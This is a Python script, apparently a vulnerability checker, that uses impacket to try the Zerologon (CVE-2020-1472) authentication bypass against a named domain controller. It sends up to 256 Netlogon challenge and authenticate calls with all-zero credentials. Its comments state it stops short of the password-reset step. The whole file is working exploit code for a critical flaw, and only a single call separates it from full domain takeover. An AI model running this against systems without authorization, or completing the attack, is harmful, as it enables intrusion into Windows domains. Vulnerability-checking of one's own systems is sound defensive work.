#!/usr/bin/python3
# A Zerologon (CVE-2020-1472) attempt, as the public testers play it, with impacket's nrpc:
# bind Netlogon over TCP (port from the endpoint mapper at 135, no authentication), then up to
# MAX times NetrServerReqChallenge with an all-zero client challenge followed by
# NetrServerAuthenticate3 for the DC's own machine account (DC1$, ServerSecureChannel) with an
# all-zero ClientCredential and flags 0x212fffff. An unpatched DC accepts about one try in 256; a
# patched one answers STATUS_ACCESS_DENIED each time. Stops on success or on any other answer.
# Only probes: it never calls NetrServerPasswordSet2, so nothing on the DC changes.
#
#   zerologon-probe.py DC_NETBIOS_NAME DC_IP [MAX]      (MAX at most 256, default 256)
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport

STATUS_ACCESS_DENIED = 0xC0000022
FLAGS = 0x212FFFFF


def main():
    name, ip = sys.argv[1], sys.argv[2]
    tries = min(int(sys.argv[3]) if len(sys.argv) > 3 else 256, 256)
    binding = epm.hept_map(ip, nrpc.MSRPC_UUID_NRPC, protocol='ncacn_ip_tcp')
    print('netlogon at', binding)
    dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    server = '\\\\' + name
    statuses = {}
    for i in range(1, tries + 1):
        nrpc.hNetrServerReqChallenge(dce, server + '\x00', name + '\x00', b'\x00' * 8)
        try:
            nrpc.hNetrServerAuthenticate3(dce, server + '\x00', name + '$\x00',
                                          nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                                          name + '\x00', b'\x00' * 8, FLAGS)
        except nrpc.DCERPCSessionError as e:
            code = e.get_error_code()
            statuses[code] = statuses.get(code, 0) + 1
            if code == STATUS_ACCESS_DENIED:
                continue
            print('attempt %d: unexpected status 0x%08x, stopping' % (i, code))
            break
        print('attempt %d: SUCCESS, the DC is vulnerable (zero credential accepted)' % i)
        statuses[0] = statuses.get(0, 0) + 1
        break
    else:
        i = tries
    dce.disconnect()
    print('attempts: %d; statuses: %s' % (i, ', '.join('0x%08x x%d' % kv for kv in sorted(statuses.items()))))


if __name__ == '__main__':
    main()
